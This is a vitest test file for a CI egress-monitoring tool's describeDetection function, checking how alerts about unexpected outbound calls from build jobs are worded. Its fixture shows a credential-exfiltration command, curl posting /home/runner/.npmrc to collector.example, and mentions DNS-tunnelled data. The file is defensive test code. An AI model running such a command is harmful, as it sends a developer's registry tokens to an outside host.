import { describe, expect, it } from "vitest";
import {
  hostileNotification,
  otherKindsOfNotification,
  sampleNotification,
  sparseNotification,
} from "../../src/conformance/index.js";
import { type Call, type Detection, describeDetection, type FactName } from "../../src/index.js";

const sample = () => sampleNotification().detection;

function withCall(changes: Partial<Call>): Detection {
  const detection = sample();
  return {
    ...detection,
    evidence: { ...detection.evidence, call: { ...detection.evidence.call, ...changes } },
  };
}

function fact(detection: Detection, name: FactName): string | undefined {
  return describeDetection(detection).facts.find((each) => each.name === name)?.value;
}

describe("describeDetection", () => {
  it("says in a title and a sentence who called where", () => {
    const { title, summary } = describeDetection(sample());
    expect(title).toBe("New outbound call: collector.example:8443");
    expect(summary).toBe(
      "build in acme/shop called collector.example:8443, which none of the 42 runs learned so far had called.",
    );
  });

  it("says of a blocked call that it was tried and refused", () => {
    const { title, summary } = describeDetection({ ...sample(), kind: "blocked-call" });
    expect(title).toBe("Blocked call: collector.example:8443");
    expect(summary).toBe(
      "build in acme/shop tried to call collector.example:8443, and its policy refused that.",
    );
  });

  it("says of every other kind what it is", () => {
    const described = otherKindsOfNotification().map(({ detection }) => {
      const { title, summary } = describeDetection(detection);
      return [title, summary];
    });
    expect(described).toEqual([
      [
        "New way to call: collector.example:8443",
        "build in acme/shop called collector.example:8443 in a way that none of the 42 runs learned so far did.",
      ],
      [
        "Worse call to a new endpoint: collector.example:8443",
        "build in acme/shop called collector.example:8443 again, in a way that is worse than what was told of it before.",
      ],
      [
        "Unusual traffic: collector.example:8443",
        "build in acme/shop moved more in its calls to collector.example:8443 than in the 42 runs learned so far.",
      ],
      [
        "Data in DNS names: tunnel.example",
        "build in acme/shop asked collector.example:8443 for names below tunnel.example that look like encoded data.",
      ],
      [
        "New job: acme/shop · .github/workflows/ci.yml · build",
        "build in acme/shop runs for the first time that is known of it; the first thing it called is collector.example:8443.",
      ],
      [
        "Blocked call: collector.example:8443",
        "build in acme/shop tried to call collector.example:8443, and its policy refused that.",
      ],
    ]);
  });

  it.each([
    [0, "and no earlier run of it has been learned."],
    [1, "which the one run learned so far had not called."],
    [2, "which none of the 2 runs learned so far had called."],
  ])("says what it knew after %i runs", (runs, words) => {
    const detection = sample();
    detection.evidence.baseline.runs = runs;
    expect(describeDetection(detection).summary).toMatch(new RegExp(`, ${words}$`));
  });

  it("tells everything a person needs to start looking", () => {
    const { facts, reasons } = describeDetection(sample());
    expect(facts.map(({ label, value }) => [label, value])).toEqual([
      ["Endpoint", "collector.example:8443"],
      ["Address", "203.0.113.9 (public), tcp"],
      ["Job", "acme/shop · .github/workflows/ci.yml · build"],
      ["Run", "7431885120, attempt 2"],
      ["Time", "2026-01-31 13:37:00 UTC"],
      ["Step", "Install dependencies"],
      ["Command", "curl -sS --data-binary @/home/runner/.npmrc https://collector.example:8443/u"],
      ["Process", "pid 4242, parent 4190, user runner"],
      ["Called by", "npm ci"],
      ["Request", "POST /u"],
      ["Result", "established"],
      ["Commit", "5f3c1d0b9a8e7f6d5c4b3a29180f7e6d5c4b3a29"],
    ]);
    expect(reasons).toHaveLength(2);
  });

  it("leaves out what is not known", () => {
    const { title, facts, reasons } = describeDetection(sparseNotification().detection);
    expect(title).toBe("New outbound call: [2001:db8::bad:1]:443");
    expect(facts.map(({ label, value }) => [label, value])).toEqual([
      ["Endpoint", "[2001:db8::bad:1]:443"],
      ["Address", "2001:db8::bad:1 (public), udp"],
      ["Job", "acme/shop · .github/workflows/ci.yml · build"],
      ["Run", "7431885120"],
      ["Time", "2026-01-31 13:37:00 UTC"],
      ["Process", "pid 4300"],
    ]);
    expect(reasons).toEqual([]);
  });

  it("says that no address was seen", () => {
    const { ip: _, ...call } = sample().evidence.call;
    const detection = sample();
    detection.evidence.call = { ...call, addressClass: "unknown" };
    expect(fact(detection, "address")).toBe("not seen, tcp");
  });

  it("tells a name that the process claimed and nothing proves", () => {
    const detection = withCall({
      endpoint: { host: "203.0.113.9", port: 443 },
      names: [
        { name: "packages.example", source: "tls", confidence: "claimed" },
        { name: "packages.example", source: "http", confidence: "claimed" },
        { name: "github.com", source: "http", confidence: "claimed" },
      ],
    });
    expect(fact(detection, "claimed-name")).toBe("packages.example, github.com");
  });

  it("does not repeat a claimed name that is the endpoint's", () => {
    expect(fact(sample(), "claimed-name")).toBeUndefined();
  });

  it("names a step by its Action where it has no name", () => {
    const step = { id: "__actions_checkout", action: { name: "actions/checkout", ref: "v4" } };
    expect(fact(withCall({ step }), "step")).toBe("actions/checkout@v4");
  });

  it("names the program where the command is not known", () => {
    expect(fact(withCall({ commandLine: "" }), "command")).toBe("/usr/bin/curl");
  });

  it("shows that the agent cut the command", () => {
    const detection = sample();
    const { process } = detection.evidence;
    if (process) process.argsTruncated = true;
    expect(fact(detection, "command")).toMatch(/\/u …$/);
  });

  it("counts further requests", () => {
    const request = { time: 0, method: "GET", path: "/a" };
    expect(fact(withCall({ http: [request, request, request] }), "request")).toBe(
      "GET /a, and 2 more",
    );
  });

  it("says why a call failed", () => {
    const detection = withCall({ result: "refused", error: "ECONNREFUSED" });
    expect(fact(detection, "result")).toBe("refused (ECONNREFUSED)");
  });

  it("says when the environment names another step", () => {
    const detection = withCall({ step: { id: "b", name: "Build" }, claimedStep: { id: "test" } });
    expect(fact(detection, "step")).toBe("Build (its environment names another: test)");
  });

  it("falls back to the user's number", () => {
    const detection = sample();
    const { userName: _, ...process } = detection.evidence.process ?? expect.fail("no process");
    detection.evidence.process = process;
    expect(fact(detection, "process")).toBe("pid 4242, parent 4190, uid 1001");
    detection.evidence.call.userId = 0;
    detection.evidence.call.containerId = "c0ffee".repeat(10);
    expect(fact(detection, "process")).toBe("pid 4242, parent 4190, uid 0, container c0ffeec0ffee");
  });

  it("counts the reasons it has no room for", () => {
    const { reasons } = describeDetection(hostileNotification().detection);
    expect(reasons).toHaveLength(11);
    expect(reasons.at(-1)).toBe("… and 40 more.");
  });

  it("leaves nothing invisible, empty or endless in a hostile detection", () => {
    const { title, summary, facts, reasons } = describeDetection(hostileNotification().detection);
    const texts = [title, summary, ...facts.map((each) => each.value), ...reasons];
    for (const text of texts) {
      expect(text).not.toBe("");
      expect(text).not.toMatch(/[\p{Cc}\p{Bidi_Control}\u200b\u2028]/u);
      expect(text.isWellFormed()).toBe(true);
      expect(text.length).toBeLessThanOrEqual(1_500);
    }
    expect(texts.join("").length).toBeLessThan(20_000);
  });
});
